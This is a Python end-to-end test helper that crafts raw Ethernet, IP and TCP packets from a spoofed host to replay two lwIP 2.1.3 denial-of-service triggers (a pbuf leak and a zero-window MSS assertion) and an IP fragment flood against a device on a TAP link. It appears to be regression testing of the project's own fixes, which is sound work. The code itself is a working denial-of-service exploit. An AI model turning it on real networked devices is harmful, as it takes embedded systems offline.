#!/usr/bin/env python3
"""raw_tcp.py - replays the two lwIP 2.1.3 denial-of-service triggers of
issue 10 against the device on a TAP link, from a made-up host (its own MAC
and IP, which the namespace's kernel does not own, so the kernel neither sees
nor resets these connections). Answers the device's ARP itself.

Layer: e2e helper (python3 standard library only; AF_PACKET, needs root).
Usage: raw_tcp.py IFACE DEVICE_IP {leak|mss} [COUNT]
  leak: COUNT connections: GET /, then the ACK that opens room for the last
        part of the page carries one data byte (lwIP's httpd closed from its
        sent callback there and leaked the segment's pool pbuf).
  mss:  SYN with window 0, GET / with window 0, wait for the 1-byte window
        probe, ACK it with window 40 (tripped "mss_local is too small").
  frags: COUNT first fragments (MF set, 1000 bytes each) of ever new
        datagrams, as fast as the socket takes them: a fragment flood.
Prints "RAW <key> <value>" lines; exit status 0 unless the helper itself
failed (the caller judges the device by /api/mem and /api/status afterwards).
Bounded: every wait has a deadline.
"""
import os
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
MY_MAC = bytes.fromhex("020000aa0010")
MY_IP = None  # set from the device address: .200 on its /24


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


class Link:
    def __init__(self, ifname, dev_ip):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((ifname, 0))
        self.s.settimeout(0.05)
        self.dev_ip = socket.inet_aton(dev_ip)
        self.dev_mac = None

    def send_eth(self, dst, ethertype, payload):
        self.s.send(dst + MY_MAC + struct.pack("!H", ethertype) + payload)

    def arp(self, op, tha, tpa):
        p = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + MY_MAC + MY_IP + tha + tpa
        self.send_eth(tha if op == 2 else b"\xff" * 6, 0x0806, p + b"\0" * 18)

    def frames(self, deadline):
        while time.time() < deadline:
            try:
                f = self.s.recv(2048)
            except socket.timeout:
                continue
            if len(f) < 14 or f[6:12] == MY_MAC:
                continue
            et = struct.unpack("!H", f[12:14])[0]
            if et == 0x0806 and len(f) >= 42:
                op = struct.unpack("!H", f[20:22])[0]
                if f[38:42] == MY_IP and op == 1:   # who has MY_IP: we do
                    self.arp(2, f[22:28], f[28:32])
                if op == 2 and f[28:32] == self.dev_ip:
                    self.dev_mac = f[22:28]
                continue
            if et == 0x0800 and f[0:6] == MY_MAC:
                yield f[14:]

    def resolve(self):
        end = time.time() + 3
        while self.dev_mac is None and time.time() < end:
            self.arp(1, b"\0" * 6, self.dev_ip)
            for _ in self.frames(time.time() + 0.3):
                pass
        if self.dev_mac is None:
            raise SystemExit("RAW error no-arp-reply")


class Conn:
    def __init__(self, link, sport):
        self.l = link
        self.sport = sport
        self.snd = 0x1000000 + sport * 1000
        self.rcv = 0
        self.rx = b""
        self.fin = False
        self.rst = False
        self.peer_wnd = 0

    def seg(self, flags, data=b"", wnd=8192):
        tcp = struct.pack("!HHIIBBHHH", self.sport, 80, self.snd, self.rcv if flags & 0x10 else 0,
                          5 << 4, flags, wnd, 0, 0) + data
        ph = MY_IP + self.l.dev_ip + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, MY_IP, self.l.dev_ip)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.l.send_eth(self.l.dev_mac, 0x0800, ip + tcp)
        self.snd += len(data) + (1 if flags & 0x03 else 0)

    def take(self, secs, until=None):
        """Reads segments of this connection for up to secs; returns new data."""
        got = b""
        for ip in self.l.frames(time.time() + secs):
            if ip[9] != 6:
                continue
            ihl = (ip[0] & 15) * 4
            t = ip[ihl:]
            sp, dp, seq, ack, off, fl, wnd = struct.unpack("!HHIIBBH", t[:16])
            if dp != self.sport:
                continue
            data = t[(off >> 4) * 4:struct.unpack("!H", ip[2:4])[0] - ihl]
            self.peer_wnd = wnd
            if fl & 0x04:
                self.rst = True
                return got
            if fl & 0x02:
                self.rcv = seq + 1
                return got
            if data and seq != self.rcv and (self.rcv - seq) & 0xFFFFFFFF < len(data):
                data = data[(self.rcv - seq) & 0xFFFFFFFF:]
                seq = self.rcv
            if seq == self.rcv:
                got += data
                self.rcv = (self.rcv + len(data)) & 0xFFFFFFFF
                if fl & 0x01:
                    self.fin = True
                    self.rcv += 1
            if until is not None and until(got):
                return got
        return got


def leak(link, count):
    ok = 0
    for i in range(count):
        c = Conn(link, 46000 + i)
        c.seg(0x02)                       # SYN
        c.take(1.0, until=lambda g: c.rcv != 0)
        c.seg(0x10)                       # ACK
        c.seg(0x18, b"GET / HTTP/1.0\r\n\r\n")
        # every ACK carries one data byte, so the one that opens room for
        # the last part of the page does too
        for _ in range(100):
            if c.fin or c.rst:
                break
            d = c.take(0.1)
            c.rx += d
            if d or c.fin:
                c.seg(0x18, b"x")
        if c.fin:
            c.seg(0x11)                   # our FIN too
            c.take(0.2)
        ok += c.rx.startswith(b"HTTP/1.0 200")
    print("RAW leak_conns %d" % count)
    print("RAW leak_answered %d" % ok)


def whole(resp):
    """All of the body came: as many bytes as Content-Length says."""
    head, sep, body = resp.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return sep != b"" and int(line.split(b":", 1)[1]) == len(body)
    return False


def mss(link):
    c = Conn(link, 47000)
    c.seg(0x02, wnd=0)
    c.take(1.0, until=lambda g: c.rcv != 0)
    c.seg(0x10, wnd=0)
    c.seg(0x18, b"GET / HTTP/1.0\r\n\r\n", wnd=0)
    probe = c.take(8.0, until=lambda g: len(g) >= 1)
    print("RAW mss_probe_bytes %d" % len(probe))
    c.seg(0x10, wnd=40)                   # acks the probe byte, window 40
    got = probe + c.take(3.0)             # the device goes on in small pieces
    print("RAW mss_small_bytes %d" % (len(got) - len(probe)))
    c.seg(0x10, wnd=8192)                 # then open the window fully
    for _ in range(100):
        d = c.take(0.2)
        got += d
        if d:
            c.seg(0x10, wnd=8192)
        if c.fin or c.rst:
            break
    print("RAW mss_rst %d" % int(c.rst))
    print("RAW mss_page %d" % int(got.startswith(b"HTTP/1.0 200") and whole(got)))
    if c.fin:
        c.seg(0x11)
        c.take(0.2)


def frags(link, count):
    for i in range(count):
        payload = bytes([8, 0, 0, 0]) + bytes(996)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x5000 + i, 0x2000, 64, 1, 0,
                         MY_IP, link.dev_ip)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        link.send_eth(link.dev_mac, 0x0800, ip + payload)
    print("RAW frags_sent %d" % count)


def main():
    global MY_IP
    if len(sys.argv) < 4:
        raise SystemExit("usage: raw_tcp.py IFACE DEVICE_IP leak|mss [COUNT]")
    ifname, dev, what = sys.argv[1:4]
    MY_IP = socket.inet_aton(dev)[:3] + bytes([200])
    link = Link(ifname, dev)
    link.resolve()
    if what == "leak":
        leak(link, int(sys.argv[4]) if len(sys.argv) > 4 else 6)
    elif what == "mss":
        mss(link)
    elif what == "frags":
        frags(link, int(sys.argv[4]) if len(sys.argv) > 4 else 300)
    else:
        raise SystemExit("unknown mode " + what)


if __name__ == "__main__":
    main()
